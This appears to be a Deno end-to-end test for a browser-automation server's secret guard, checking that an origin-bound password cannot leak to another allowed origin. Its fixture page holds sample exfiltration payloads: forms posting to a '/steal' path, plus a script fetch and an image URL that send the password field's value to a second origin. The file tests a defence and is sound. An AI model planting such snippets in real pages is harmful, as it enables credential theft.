/**
 * End-to-end attacks on origin-bound secrets (`NAME@origin=value`): a value
 * filled on A must not reach another origin, even one on the allowlist, by a
 * declared form, a GET form, a page script or an image URL.
 */
import { join } from "node:path";
import { assertEquals, assertIncludes, assertNotIncludes, assertTrue } from "./_assert.ts";
import { startStdio, type ToolResult } from "./_mcp.ts";
import { startTwoOrigins } from "./_two_origins.ts";
import { eventually } from "./_util.ts";

const textOf = (r: ToolResult) => r.content.map((c) => c.text ?? "").join("\n");
type R = Record<string, unknown>;
const SECRET = "Zq7-hunter-Wv3x";

Deno.test("navigation guard: a bound secret never leaves for another origin", async (t) => {
  // C: a second origin on the allowlist (127.0.0.1, another port), the secret not bound to it.
  const srv = startTwoOrigins((a, b) => {
    const c = b.replace("localhost", "127.0.0.1");
    return {
      "/login": `<title>login</title>` +
        `<form id=post method=post action="${c}/steal"><input id=p name=p type=password>` +
        `<button id=send>sign in</button></form>` +
        `<form id=get action="${c}/steal"><input id=g name=g><button id=gsend>go</button></form>` +
        `<form id=home method=post action="${a}/home"><input id=h name=h><button id=hsend>ok</button></form>` +
        `<button id=script onclick="fetch('${c}/xhr', { method: 'POST', mode: 'no-cors', ` +
        `body: document.getElementById('p').value }).catch(() => {}).then(() => fetch('/done1'))">s</button>` +
        `<button id=img onclick="const i = new Image(); i.onerror = i.onload = () => fetch('/done2'); ` +
        `i.src = '${c}/img?v=' + encodeURIComponent(document.getElementById('p').value)">i</button>`,
    };
  });
  const c = srv.b.replace("localhost", "127.0.0.1");
  const ws = await Deno.makeTempDir({ prefix: "browxai-test-bound-" });
  const secrets = join(ws, "secrets.env");
  await Deno.writeTextFile(secrets, `PW@${srv.a}=${SECRET}\n`, { mode: 0o600 });
  const mcp = await startStdio({
    workspace: ws,
    env: {
      BROWX_ALLOWED_ORIGINS: "127.0.0.1",
      BROWX_CAPABILITIES: "read,navigation,action,secrets",
      BROWX_SECRETS: secrets,
    },
  });
  const leaked = () =>
    srv.hits.filter((h) => h.path.includes("hunter") || h.body.includes("hunter"));
  const refused = (r: ToolResult) => {
    assertEquals(r.isError, true, textOf(r));
    const s = r.structuredContent!;
    assertEquals((s.error as R).code, "blocked-by-policy", textOf(r));
    assertEquals((s.policy as R).rule, "secret-origin", textOf(r));
    assertTrue(!JSON.stringify(s).includes(SECRET), "the value is masked in the result");
  };
  try {
    await mcp.ok("navigate", { url: `${srv.a}/login`, snapshot: "none" });

    await t.step("a declared POST form to another allowed origin: refused, not sent", async () => {
      await mcp.ok("fill", { selector: "#p", value: "{{secret:PW}}", snapshot: "none" });
      const r = await mcp.call("click", { selector: "#send", submits: true, snapshot: "none" });
      refused(r);
      // Said as it is: the guard stopped the form's request, so the tab stayed.
      assertIncludes(textOf(r), "the secret guard stopped a request to");
      assertIncludes(textOf(r), `the tab has not moved (${srv.a}/login)`);
      assertEquals(leaked(), []);
    });

    await t.step("a GET form carrying it in the URL: refused", async () => {
      await mcp.ok("fill", { selector: "#g", value: "{{secret:PW}}", snapshot: "none" });
      refused(await mcp.call("click", { selector: "#gsend", submits: true, snapshot: "none" }));
      assertEquals(leaked(), []);
    });

    await t.step("a page script's fetch and an image URL carrying it: failed", async () => {
      const r = await mcp.call("click", { selector: "#script", snapshot: "none" });
      refused(r);
      // A script's fetch was never to move the tab: not said to have "not moved".
      assertIncludes(textOf(r), "the secret guard stopped a request to");
      assertIncludes(textOf(r), "not a navigation; the tab is at");
      assertNotIncludes(textOf(r), "has not moved");
      await eventually(() => srv.seen("A").includes("GET /done1"), 5000, "the script's end");
      // The image may fail after the click's result: refused when the result saw it.
      const img = await mcp.call("click", { selector: "#img", snapshot: "none" });
      if (img.isError) refused(img);
      await eventually(() => srv.seen("A").includes("GET /done2"), 5000, "the image's end");
      assertEquals(leaked(), []);
      assertEquals(srv.hits.filter((h) => h.srv === "B").length, 0);
    });

    await t.step("its own origin still receives it", async () => {
      await mcp.ok("fill", { selector: "#h", value: "{{secret:PW}}", snapshot: "none" });
      await mcp.ok("click", { selector: "#hsend", submits: true, snapshot: "none" });
      await eventually(() => srv.hits.some((h) => h.path === "/home" && h.body.includes(SECRET)));
      assertEquals(srv.hits.filter((h) => h.path !== "/home" && h.body.includes(SECRET)), []);
    });
  } finally {
    await mcp.close();
    await srv.close();
    await Deno.remove(ws, { recursive: true }).catch(() => {});
  }
  assertTrue(c.startsWith("http://127.0.0.1:"));
});
